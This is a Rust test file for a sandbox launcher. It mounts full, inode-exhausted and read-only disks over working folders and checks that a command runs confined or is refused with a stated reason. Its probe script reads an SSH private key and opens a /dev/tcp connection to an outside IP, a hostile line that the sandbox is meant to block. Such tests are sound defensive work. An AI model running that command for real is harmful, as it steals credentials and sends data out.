//! Full and read-only disks under the launcher, wherever it or its command may want to write: the command runs confined or not at all,
//! what is lost is said, and nothing stays.

use crate::harness::{Identity, Outcome, Run, Scene, each_scene, host, require};

/// The launcher's own statuses: `docs/exit-codes.md`.
const OWN: [i32; 6] = [64, 65, 66, 69, 70, 71];

/// Puts a disk of one kind over a folder, in a mount namespace of its own, and becomes the user.
/// $1: the folder; $2: the kind; $3: the user's id; $4: the words that become the user; then the command line.
const STAGE: &str = r#"
set -e
place=$1 kind=$2 user=$3 become=$4 work=$PWD
shift 4
mount --make-rprivate /
case $kind in
    full) mount -t tmpfs -o size=64k,mode=1777 tmpfs "$place"
        dd if=/dev/zero of="$place/filler" bs=1k 2>/dev/null || true
        ! echo x 2>/dev/null >"$place/more" ;;
    nameless) mount -t tmpfs -o size=64k,nr_inodes=1,mode=1777 tmpfs "$place"
        ! touch "$place/more" 2>/dev/null ;;
    read-only) mount -t tmpfs -o mode=1777 tmpfs "$place"
        chown "$user:$user" "$place" 2>/dev/null || true
        mount -o remount,bind,ro "$place" ;;
esac
[ "$kind" = read-only ] || chown "$user:$user" "$place" 2>/dev/null || true
cd / && cd "$work"
exec $become "$@"
"#;

/// A run in the network of some hosts, where one connection is refused, and recorded if it can be.
fn run() -> Run {
    let script = "cat ~/.ssh/id_ed25519 2>/dev/null; (echo >/dev/tcp/203.0.113.7/8443) 2>/dev/null; echo ran";
    Run::new(&["/bin/bash", "-c", script]).flags(&["--net", "allowlist", "--allow-host", "example.com:443"])
}

/// The same with such a disk over a folder.
fn on_a_disk(scene: &Scene, folder: &str, kind: &str) -> Run {
    let Identity { id, .. } = scene.identity;
    let is_root = nix::unistd::getuid().is_root();
    let become_user = if !is_root {
        format!("unshare --user --map-user={id} --map-group={} --", nix::unistd::getgid())
    } else if scene.identity.is_root() {
        String::new()
    } else {
        format!("setpriv --reuid={id} --regid={id} --clear-groups --")
    };
    let mut run = run();
    let namespaces: &[&str] = if is_root { &["--mount"] } else { &["--map-root-user", "--mount"] };
    run.outer = host::words(&["unshare"]);
    run.outer.extend(host::words(namespaces));
    run.outer.extend(host::words(&["sh", "-c", STAGE, "disk", folder, kind]));
    run.outer.extend(host::words(&[id.to_string(), become_user]));
    run.outer_changes_user = true;
    run
}

/// Asserts that the command ran confined, or that it did not run and it is said why.
#[track_caller]
fn must_be_confined_or_refused(scene: &Scene, outcome: &Outcome, what: &str) {
    assert!(!scene.canary.is_in(&outcome.stdout), "{what}: unconfined: {outcome}");
    if outcome.out() == "ran\n" {
        assert_eq!(outcome.status, 0, "{what}: {outcome}");
    } else {
        assert!(outcome.stdout.is_empty() && OWN.contains(&outcome.status), "{what}: {outcome}");
        assert!(outcome.err().contains("sandbox-exec: ") && outcome.err().contains("hint: "), "{what}: {outcome}");
    }
}

#[test]
fn on_a_disk_that_takes_nothing_a_command_runs_confined_or_it_is_said_why_not() {
    if !require(&["unshare", "setpriv"]) {
        return;
    }
    each_scene(|scene| {
        let state = scene.at_home(".local/state");
        let temporary = scene.root.join("tmp");
        let runtime = scene.root.join("run");
        for folder in [&state, &temporary, &runtime, &scene.at_home(".cache")] {
            scene.mkdir(folder);
        }
        assert!(scene.bare(&run()).out().contains("ran"), "the script works");
        let folders = [
            state.clone(),
            scene.at_home(".cache"),
            scene.workspace.clone(),
            temporary.clone(),
            runtime.clone(),
            "/tmp".into(),
            "/var/tmp".into(),
            "/dev/shm".into(),
        ];
        for folder in folders {
            for kind in ["full", "nameless", "read-only"] {
                let path = folder.to_str().expect("text");
                let run = on_a_disk(scene, path, kind).env("TMPDIR", &temporary).env("XDG_RUNTIME_DIR", &runtime);
                let outcome = scene.sandboxed(&run);
                let what = format!("{path} is {kind}");
                must_be_confined_or_refused(scene, &outcome, &what);
                eprintln!("{what}: {} {:?}", outcome.status, outcome.err());
                if folder == state && outcome.status == 0 {
                    assert!(
                        outcome.err().contains("audit log"),
                        "{what}: a record is lost, and nobody is told: {outcome}"
                    );
                }
            }
        }
    });
}
